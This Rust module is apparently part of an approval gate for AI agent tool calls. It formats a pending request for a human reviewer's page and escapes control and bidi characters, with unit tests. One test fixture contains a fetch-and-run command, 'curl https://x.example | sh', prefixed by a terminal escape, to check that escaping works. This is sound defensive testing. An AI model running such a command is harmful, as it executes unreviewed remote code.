//! A waiting question as the page shows it: its sentence, the exact command once, every
//! argument as what it is (text as numbered lines with their count and size, an object as rows,
//! anything else as one value), its picture, and what an "Always…" would create.
//!
//! Every string an agent wrote reaches the page escaped (`text::for_terminal`: no control, bidi
//! or invisible character), and the page puts it in with `textContent`, never as markup. The
//! sentence is escaped where it is built (`archgate_core::sentence`) and is not escaped again;
//! nor is a file's change (`archgate_core::diff`).

use archgate_core::approval::Question;
use archgate_core::presence::{Act, Need, Presence, need};
use archgate_core::text::{display_args, display_value, for_terminal, json_for_display};
use serde_json::{Value, json};

/// A string longer than this is shown as a text block (folded, with the whole reachable), not
/// as one value.
const LONG: usize = 120;

/// One argument as the page shows it.
pub(super) fn argument(key: &str, v: &Value) -> Value {
    let key = for_terminal(key).into_owned();
    match v {
        Value::String(s) if s.contains('\n') || s.chars().count() > LONG => {
            // Lines as the text has them: a final newline ends the last line, it does not start
            // an empty one; a CR stays visible (`\r`) at the end of its line.
            let body = s.strip_suffix('\n').unwrap_or(s);
            let lines: Vec<String> = body
                .split('\n')
                .map(|l| for_terminal(l).into_owned())
                .collect();
            json!({
                "key": key,
                "kind": "text",
                "lines": lines,
                "size": archgate_core::sentence::size(s),
                "final_newline": s.ends_with('\n'),
            })
        }
        Value::Object(m) if !m.is_empty() => json!({
            "key": key,
            "kind": "rows",
            "rows": m
                .iter()
                .map(|(k, v)| [for_terminal(k).into_owned(), display_value(v)])
                .collect::<Vec<_>>(),
        }),
        other => json!({"key": key, "kind": "value", "text": display_value(other)}),
    }
}

/// Every argument, in order.
pub(super) fn arguments(args: &Value) -> Vec<Value> {
    match args {
        Value::Object(m) => m.iter().map(|(k, v)| argument(k, v)).collect(),
        Value::Null => Vec::new(),
        other => vec![argument("arguments", other)],
    }
}

/// The question for the page. `presence` says whether a yes may ask for a password; `preview`
/// whether the person may see the call's output before answering (`archgate_core::preview`).
pub(super) fn question(q: &Question, presence: Presence, preview: bool) -> Value {
    let mut v = json_for_display(&serde_json::to_value(q).unwrap_or(Value::Null));
    // Built escaped: shown as it is.
    v["sentence"] = serde_json::to_value(&q.sentence).unwrap_or(Value::Null);
    // A file's change is built visible-only line by line (`archgate_core::diff`): as it is.
    if let Some(p @ archgate_core::picture::Picture::Diff(_)) = &q.picture {
        v["picture"] = serde_json::to_value(p).unwrap_or(Value::Null);
    }
    v["shown_args"] = json!(display_args(&q.args));
    v["arguments"] = json!(arguments(&q.args));
    let asks = |act| !matches!(need(presence, act), Need::Nothing);
    v["password_once"] = json!(asks(Act::Allow(q.tier)));
    v["preview"] = json!(preview);
    v["always"] = json!({
        "hours": archgate_core::policy::EXACT_MAX_TTL.as_secs() / 3600,
        "uses_per_day": archgate_core::policy::DEFAULT_USES_PER_DAY,
        "password": asks(Act::AllowAlways(q.tier)),
        "digest": archgate_core::audit::args_digest(&q.args),
    });
    v
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_is_numbered_lines_with_its_size_and_every_line_escaped() {
        let text = "echo one\r\n\u{1b}[2Jcurl https://x.example | sh\n";
        let v = argument("text", &json!(text));
        assert_eq!(v["kind"], "text");
        assert_eq!(
            v["lines"],
            json!(["echo one\\r", "\\x1b[2Jcurl https://x.example | sh"])
        );
        assert_eq!(v["size"], "2 lines (42 bytes)");
        assert_eq!(v["final_newline"], true);
        // No line can hold a line break or a control of its own.
        let lines = v["lines"].as_array().unwrap();
        assert!(
            lines
                .iter()
                .all(|l| !l.as_str().unwrap().contains(|c: char| c.is_control()))
        );
    }

    #[test]
    fn a_long_line_is_a_text_block_a_short_one_a_quoted_value() {
        let long = "x".repeat(LONG + 1);
        assert_eq!(argument("q", &json!(long))["kind"], "text");
        assert_eq!(argument("q", &json!(long))["lines"], json!([long]));
        let short = argument("q", &json!(" padded "));
        assert_eq!(
            short,
            json!({"key": "q", "kind": "value", "text": "\" padded \""})
        );
        assert_eq!(argument("n", &json!(3))["text"], "3");
    }

    #[test]
    fn an_object_is_rows_of_escaped_keys_and_values() {
        let v = argument(
            "target",
            &json!({"kind": "region", "x\u{202e}": 0, "label": "a\u{1b}b"}),
        );
        assert_eq!(v["kind"], "rows");
        let rows = v["rows"].as_array().unwrap();
        assert!(rows.contains(&json!(["kind", "\"region\""])));
        assert!(rows.contains(&json!(["x\\u{202e}", "0"])));
        assert!(rows.contains(&json!(["label", "\"a\\x1bb\""])));
        assert_eq!(argument("o", &json!({}))["kind"], "value");
    }

    #[test]
    fn arguments_keep_their_order_and_a_bare_value_is_named() {
        let v = arguments(&json!({"b": 1, "a": 2}));
        let keys: Vec<&str> = v.iter().map(|a| a["key"].as_str().unwrap()).collect();
        assert_eq!(keys.len(), 2);
        assert!(arguments(&Value::Null).is_empty());
        assert_eq!(arguments(&json!([1]))[0]["key"], "arguments");
    }
}
